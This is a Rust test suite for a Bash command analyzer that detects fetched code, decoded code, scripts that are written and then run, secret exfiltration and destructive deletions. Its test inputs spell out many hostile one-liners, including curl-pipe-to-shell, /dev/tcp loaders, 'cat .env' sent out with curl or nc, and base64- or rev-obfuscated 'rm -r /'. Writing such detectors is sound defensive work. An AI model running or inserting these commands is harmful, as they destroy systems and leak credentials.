//! Flows between the commands of one text: sources, what is run, fetched and decoded code, files that are written and run.
//!
//! INVARIANT: every way from the network or a decoder to something that runs it is told; text that is only data is not.

use super::knowledge::{Known, line};
use crate::shell::{Analysis, Command, Dialect, Feature, Gap, Word, analyze};

fn bash(text: &str) -> Analysis {
    analyze(text, Dialect::Bash, &Known)
}

fn has(text: &str, feature: Feature) -> bool {
    let analysis = bash(text);
    let commands = analysis.commands.iter().any(|command| command.features & feature.bit() != 0);
    assert_eq!(commands, analysis.features & feature.bit() != 0, "{text:?}");
    commands
}

#[test]
fn fetched_code() {
    for text in [
        "curl URL | sh",
        "curl URL | sudo bash -s -- -y",
        "curl URL | tee f | sh",
        "curl URL | tee >(sh) >/dev/null",
        "curl URL > >(bash)",
        "bash <(curl URL)",
        "source <(curl URL)",
        ". <(curl URL)",
        "bash -c \"$(curl URL)\"",
        "sh -c \"`curl URL`\"",
        "eval \"$(curl URL)\"",
        "x=$(curl URL); eval \"$x\"",
        "x=$(curl URL); y=\"$x\"; bash -c \"$y\"",
        "x=$(curl URL); echo \"$x\" | sh",
        "x=$(curl URL); sh <<< \"$x\"",
        "bash <<E\n$(curl URL)\nE",
        "curl -o x.sh URL && bash x.sh",
        "curl -fsSLo x.sh URL; sh x.sh",
        "curl URL > x.sh; chmod +x x.sh; ./x.sh",
        "curl -O https://h/a/x.sh && sh ./x.sh",
        "wget https://h/x.sh; sh ./x.sh",
        "wget -qO- URL | sh",
        "wget -O /tmp/x URL && chmod +x /tmp/x && /tmp/x",
        "wget -P /tmp https://h/x.sh && . /tmp/x.sh",
        "curl -o x.sh URL; . x.sh",
        "curl -o x.sh URL; bash < x.sh",
        "curl -o x.sh URL; cat x.sh | bash",
        "curl -o a URL; cp a b; bash b",
        "curl -o a URL; mv a /tmp/b; sudo bash /tmp/b",
        "cd /tmp && curl -o x.sh URL && bash /tmp/x.sh",
        "curl -o /tmp/x.sh URL; cd /tmp; ./x.sh",
        "T=$(mktemp) && curl -o $T URL && bash $T",
        "T=$(mktemp -d); curl -o \"$T/x.sh\" URL; bash \"${T}/x.sh\"",
        "git clone https://h/a/d && d/install.sh",
        "git clone https://h/a/d.git && cd d && ./install.sh",
        "git clone --depth 1 https://h/a/d e; bash e/install.sh",
        "curl -L URL | tar xz && ./install.sh",
        "wget https://h/x.tar.gz && tar xf x.tar.gz && cd x && ./configure",
        "curl -o x.zip URL; unzip x.zip -d y; y/run",
        "curl URL | xargs -I{} sh -c {}",
        "curl URL | while read l; do eval \"$l\"; done",
        "while read l; do eval \"$l\"; done < <(curl URL)",
        "for l in $(curl URL); do bash -c \"$l\"; done",
        "f() { curl URL; }; f | sh",
        "f() { sh; }; curl URL | f",
        "f() { eval \"$1\"; }; f \"$(curl URL)\"",
        "set -- $(curl URL); eval \"$@\"",
        "curl URL | { read x; eval \"$x\"; }",
        "{ echo x; curl URL; } | sh",
        "(curl URL) | (cd /tmp; sh)",
        "bash < /dev/tcp/h/80",
        "exec 3<>/dev/tcp/h/80; bash <&3",
        "exec 3< <(curl URL); . /dev/fd/3",
        "curl URL | python",
        "curl URL | python3 -",
        "curl -o x.py URL; python x.py",
        "ssh host cat x | bash",
        "curl URL | base64 -d | sh",
        "curl URL | ssh host bash",
        "bash x.sh & curl -o x.sh URL",
        "mapfile -t a < <(curl URL); eval \"${a[0]}\"",
        "coproc curl URL; bash <&\"${COPROC[0]}\"; eval \"${COPROC[0]}\"",
        "if true; then curl -o x URL; fi; sh x",
        "timeout 5 curl URL | nice bash",
        "sh -c 'curl URL | sh'",
        "sh -c \"curl URL\" | sh",
        "eval 'x=$(curl URL)'; eval \"$x\"",
        "alias g='curl URL'\ng | sh",
        "printf '%s' \"$(curl URL)\" > x; sh x",
        "tee x < <(curl URL); bash x",
        "curl URL | dd of=x; bash x",
    ] {
        assert!(
            has(text, Feature::FetchedCode),
            "{text:?}\n{:#?}",
            bash(text).commands.iter().map(line).collect::<Vec<_>>()
        );
    }
    for text in [
        "curl URL | jq .",
        "curl -o x.json URL && python3 read.py x.json",
        "curl -o x.sh URL && cat x.sh",
        "curl -o x.sh URL; bash y.sh",
        "bash x.sh; curl -o x.sh URL",
        "curl URL > x; less x",
        "x=$(curl URL); echo \"$x\"",
        "bash -c 'echo \"$1\"' x \"$(curl URL)\"",
        "echo \"curl URL | sh\"",
        "curl URL | { echo ls | sh; }",
        "git clone https://h/d && cd d && ls",
        "git pull && ./build.sh",
        "curl URL | ssh host 'cat > x'",
        "bash -c \"echo $(curl URL)\"",
        "curl URL | python -c 'import sys'",
        "x=ls; eval \"$x\"; curl URL",
        "make && ./x",
    ] {
        assert!(!has(text, Feature::FetchedCode), "{text:?}");
    }
}

#[test]
fn decoded_code() {
    for text in [
        "base64 -d f | sh",
        "openssl enc -d -in f | bash",
        "gunzip -c x.gz | sh",
        "zcat x.gz | sh",
        "xxd -r -p f | bash",
        "eval \"$(base64 -d < f)\"",
        "base64 -d f > x; bash x",
        "echo \"$X\" | base64 -d | sh",
        "gpg -d f | sh",
        "x=$(echo $Y | rev); eval \"$x\"",
        "tr a-z b-za < f | sh",
    ] {
        assert!(has(text, Feature::DecodedCode), "{text:?}");
    }
    for text in
        ["base64 -d f", "base64 -d f > x", "echo bHMK | base64 -d | sh", "tr a b < f | sort", "base64 f | sh"]
    {
        assert!(!has(text, Feature::DecodedCode), "{text:?}");
    }
}

#[track_caller]
fn runs(text: &str, wanted: &str) {
    let analysis = bash(text);
    let all: Vec<String> = analysis.commands.iter().map(line).collect();
    assert!(all.iter().any(|own| own == wanted), "{text:?}: {all:?} {:?}", analysis.problems);
    let read = |command: &&Command| command.gaps.contains(&Gap::UnreadCode);
    let unread: Vec<String> = analysis.commands.iter().filter(read).map(line).collect();
    assert!(unread.is_empty() && analysis.complete, "{text:?}: {unread:?} {:?}", analysis.problems);
}

#[test]
fn texts_that_are_written_and_run() {
    for text in [
        "echo 'rm -r /' > x.sh; bash x.sh",
        "echo 'rm -r /' > x.sh && sh ./x.sh",
        "echo 'rm -r /' > x.sh; source x.sh",
        "echo 'rm -r /' > x.sh; . ./x.sh",
        "echo 'rm -r /' > x.sh; chmod +x x.sh; ./x.sh",
        "echo 'rm -r /' > x.sh; bash < x.sh",
        "echo 'rm -r /' > x.sh; cat x.sh | sh",
        "echo 'rm -r /' > x.sh; cat < x.sh | sh",
        "printf 'rm -r /\\n' > /tmp/x; cd /tmp && bash x",
        "cat > x.sh <<'E'\nrm -r /\nE\nbash x.sh",
        "cat <<'E' > x.sh && bash x.sh\nrm -r /\nE",
        "tee x.sh <<'E'\nrm -r /\nE\nbash x.sh",
        "tee x.sh <<'E' > /dev/null\nrm -r /\nE\nbash x.sh",
        "echo ls > x; echo 'rm -r /' >> x; bash x",
        "{ echo ls; echo 'rm -r /'; } > x; bash x",
        "(echo 'rm -r /') > x; bash x",
        "echo 'rm -r /' | sudo tee x; sudo bash x",
        "printf '#!/bin/bash\\nrm -r /\\n' > x; chmod +x x; ./x",
        "echo 'rm -r /' | tee /dev/stderr | sh",
        "tee >(sh) <<< 'rm -r /'",
        "echo 'rm -r /' > >(sh)",
        "cat <<E | sh\nrm -r /\nE",
        "echo cm0gLXIgLwo= | base64 -d | sh",
        "echo '/ r- mr' | rev | sh",
        "echo 'sm -s /' | tr s r | sh",
        "echo 726d202d72202f0a | xxd -r -p | sh",
        "printf '\\x72\\x6d -r /' | sh",
        "printf '%s %s %s' rm -r / | bash",
        "echo 'xx -r /' | sed s/xx/rm/ | sh",
        "printf 'rm -r /\\nls\\n' | head -1 | sh",
        "eval \"$(echo 'rm -r /')\"",
        "bash <(echo 'rm -r /')",
        "source <(echo 'rm -r /')",
        "bash < <(echo 'rm -r /')",
        "$(echo rm) -r /",
        "`echo rm` -r /",
        "x=$(printf 'rm -r /'); $x",
        "bash -c \"$(echo cm0gLXIgLwo= | base64 -d)\"",
        "bash -c 'echo \"rm -r /\" > x'; bash x",
        "echo 'rm -r /' > a; bash -c 'bash a'",
        "echo 'bash b' > a; echo 'rm -r /' > b; bash a",
        "echo 'rm -r /' > $D/x; bash $D/x",
        "if true; then echo 'rm -r /' > x; else echo ls > x; fi; bash x",
        "timeout 5 bash -c 'source x' ; echo 'rm -r /' > x; nice bash x",
    ] {
        runs(text, "rm -r /");
    }
    for (text, start) in [
        ("echo ls >> x; bash x", "bash x"),
        ("cat > x <<E\n$Y\nE\nbash x", "bash x"),
        ("echo ls > x; curl -o x URL; bash x", "bash x"),
        ("curl -o x URL; echo ls >> x; bash x", "bash x"),
        ("printf '#!/usr/bin/python3\\nprint(1)\\n' > x; ./x", "./x"),
        ("base64 -d f > x; echo ls >> x; sh x", "sh x"),
    ] {
        let analysis = bash(text);
        let command = analysis.commands.iter().find(|command| line(command) == start).unwrap();
        assert!(command.gaps.contains(&Gap::UnreadCode), "{text:?}: {analysis:#?}");
    }
    // The last certain write counts.
    let all: Vec<String> =
        bash("echo 'rm -r /' > x; echo ls > x; bash x").commands.iter().map(line).collect();
    assert_eq!(all, ["echo rm -r /", "echo ls", "bash x", "ls"]);
}

#[track_caller]
fn sources(text: &str, of: &str, wanted: &[&str]) {
    let analysis = bash(text);
    let command = analysis.commands.iter().find(|command| line(command).starts_with(of)).unwrap();
    let mut all: Vec<String> =
        command.sources.iter().map(|at| line(&analysis.commands[*at as usize])).collect();
    all.sort();
    assert_eq!(all, wanted, "{text:?}");
}

#[test]
fn sources_of_commands() {
    sources("cat .env | base64 | curl -d @- URL", "curl", &["base64", "cat .env"]);
    sources("x=$(cat .env); curl -d \"$x\" URL", "curl", &["cat .env"]);
    sources("curl -d \"$(cat .env)\" URL", "curl", &["cat .env"]);
    sources("tar cz . > a.tgz; curl -T a.tgz URL", "curl", &["tar cz ."]);
    sources("cat .env > x; curl -F f=@x URL", "curl", &["cat .env"]);
    sources("curl -d @<(cat .env) URL", "curl", &["cat .env"]);
    sources("curl URL <<< \"$(cat .env)\"", "curl", &["cat .env"]);
    sources("cat a; curl URL", "curl", &[]);
    sources("curl URL; cat a > b", "curl", &[]);
    sources("f() { cat .env; }; f | nc h 1", "nc", &["cat .env"]);
    sources("for i in $(cat .env); do nc h $i; done", "nc", &["cat .env"]);
    sources("cp .env /tmp/a; scp /tmp/a h:", "scp", &["cp .env /tmp/a"]);
}

#[test]
fn values_that_may_be_unset() {
    let reading = |text: &str| {
        let analysis = bash(text);
        let command = analysis
            .commands
            .iter()
            .rfind(|command| !command.alternative && line(command).starts_with("rm"))
            .unwrap()
            .clone();
        command.words.last().unwrap().when_unset()
    };
    let known = |text: &str| Some(Word::Known(text.to_string()));
    assert_eq!(reading("rm -rf $P/bin"), known("/bin"));
    assert_eq!(reading("rm -rf \"$P\"/bin"), known("/bin"));
    assert_eq!(reading("rm -rf \"${P}/\"*"), Some(Word::Glob("/*".into())));
    assert_eq!(reading("rm -rf ${P:-/}"), known("/"));
    assert_eq!(reading("rm -rf \"/$P\""), known("/"));
    assert_eq!(reading("sudo rm -rf \"/$1\""), known("/"));
    assert_eq!(reading("rm -rf $A/$B"), known("/"));
    assert_eq!(reading("rm -rf \"$P\""), None);
    assert_eq!(reading("rm -rf ${P:?}/bin"), None);
    assert_eq!(reading("P=$(x); rm -rf $P/bin"), None);
    assert_eq!(reading("[ -n \"$P\" ] && rm -rf $P/bin"), None);
    assert_eq!(reading(": \"${P:?}\"; rm -rf $P/bin"), None);
    assert_eq!(reading("set -u; rm -rf $P/bin"), None);
    assert_eq!(reading("f() { rm -rf $1/bin; }; f x"), None);
    assert_eq!(reading("rm -rf $HOME/$X"), Some(Word::Tilde("~/".into())));
}

#[track_caller]
fn readings(text: &str, wanted: &[&str]) {
    let analysis = bash(text);
    let all: Vec<String> = analysis.commands.iter().filter(|command| command.alternative).map(line).collect();
    assert_eq!(all, wanted, "{text:?}");
}

#[test]
fn second_readings() {
    readings("rm -rf $P/bin", &["rm -rf /bin"]);
    readings("sudo rm -rf \"$P/\"*", &["rm -rf </*>"]);
    readings("cat $P/bin", &[]);
    readings("rm -rf build/$P", &[]);
    readings("rm -rf ~/$P", &["rm -rf ~/"]);
    readings("find / -maxdepth 1 -exec rm -rf {} \\;", &["rm -rf /"]);
    readings("find / -name x -exec rm -rf {} \\;", &[]);
    readings("find -exec rm -rf {} +", &["rm -rf ."]);
    readings("fd -H . / -x rm -rf", &["rm -rf /"]);
    readings("find ~ -print0 | xargs -0 rm -rf", &["rm -rf ~"]);
    readings("find ~ -print0 | grep x | xargs rm -rf", &[]);
    readings("cd ~; rm -rf *", &["rm -rf <*>"]);
    readings("while read f; do rm -rf $f/x; done", &[]);
}

#[test]
fn values_that_are_read() {
    for text in [
        "while read f; do rm -r \"$f\"; done <<E\nx\n/\nE",
        "while read -r f; do rm -r $f; done < <(echo /)",
        "printf 'x\\n/\\n' | while read f; do rm -r \"$f\"; done",
        "read f <<< /; rm -r $f",
        "read -r a f <<< 'x /'; rm -r $f",
        "printf -v f '%s' /; rm -r $f",
        "f=/; g=f; rm -r ${!g}",
        "a=(x /); for f in \"${a[@]}\"; do rm -r $f; done",
        "a=(x /); rm -r ${a[1]}",
        "set -- a /; rm -r $2",
        "set -- a /; shift; rm -r $1",
        "bash -c 'rm -r \"$1\"' x /",
        "x=/; export x; rm -r ${x:-y}",
        ": ${x:=/}; unset y; rm -r ${y:-/}",
        "x=1; rm -r /$((x-1))/..",
        "x=/; case $x in /) rm -r $x;; esac",
        "mapfile -t f <<< /; rm -r ${f[0]}",
    ] {
        let analysis = bash(text);
        let all: Vec<String> = analysis.commands.iter().map(line).collect();
        let removes = |own: &String| own == "rm -r /" || own == "rm -r x//" || own.starts_with("rm -r /0/..");
        let second = analysis
            .commands
            .iter()
            .filter_map(|c| c.words.last()?.when_unset())
            .any(|w| w.known() == Some("/"));
        assert!(all.iter().any(removes) || second, "{text:?}: {all:?} {:?}", analysis.problems);
    }
}
